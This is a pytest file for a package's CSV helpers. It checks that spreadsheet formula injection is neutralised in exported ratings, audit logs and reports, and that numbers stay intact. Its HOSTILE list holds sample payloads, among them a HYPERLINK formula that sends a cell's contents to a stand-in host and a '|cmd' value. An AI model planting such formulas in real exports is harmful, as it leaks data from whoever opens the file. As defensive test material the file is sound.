"""Small shared helpers (safetylens.util)."""

from __future__ import annotations

import csv
import io

import pytest

from safetylens.util import chunks, csv_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+1+2",
    "-2+3",
    "-0.5",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "|cmd",
    "%0A",
    "\uff1dSUM(A1)",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
]


def test_chunks_cover_the_sequence_in_order_without_overlap() -> None:
    seq = list(range(2501))
    parts = list(chunks(seq, 1000))
    assert [len(p) for p in parts] == [1000, 1000, 501]
    assert [x for p in parts for x in p] == seq
    assert list(chunks([], 3)) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cell_quotes_text_that_starts_like_a_formula(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Llama 2-Chat 7B", "a=b", "", "'already quoted", "[1, 2]", "{}"])
def test_csv_cell_leaves_other_text_alone(value: str) -> None:
    assert csv_cell(value) == value


@pytest.mark.parametrize("value", [-0.5, -3, 0, 2.5, True, False, None])
def test_csv_cell_leaves_numbers_and_missing_values_alone(value: object) -> None:
    """Numbers our own code writes are data: a negative score must stay a number in the file."""
    assert csv_cell(value) is value


def test_every_csv_writer_neutralises_formulas_and_keeps_numbers() -> None:
    from safetylens.audit.outputs import _csv
    from safetylens.human import audit, export
    from safetylens.report.escape import csv_text

    evil = HOSTILE[0]
    rating = dict.fromkeys(export.COLUMNS) | {"comment": evil, "response": "-cmd", "signed_score_first_model": -3}
    (row,) = csv.DictReader(io.StringIO(export.to_csv([rating])))
    assert row["comment"] == "'" + evil and row["response"] == "'-cmd" and row["signed_score_first_model"] == "-3"

    entry = dict.fromkeys(audit.COLUMNS) | {"actor": evil, "entity_id": -1, "details": {"reason": evil}}
    (row,) = csv.DictReader(io.StringIO(audit.to_csv([entry])))
    assert row["actor"] == "'" + evil and row["entity_id"] == "-1" and row["details"].startswith("{")

    assert csv_text(evil) == "'" + evil

    (header, line) = list(csv.reader(io.StringIO(_csv(["term", "percent"], [[evil, -0.5]]))))
    assert header == ["term", "percent"] and line == ["'" + evil, "-0.5"]
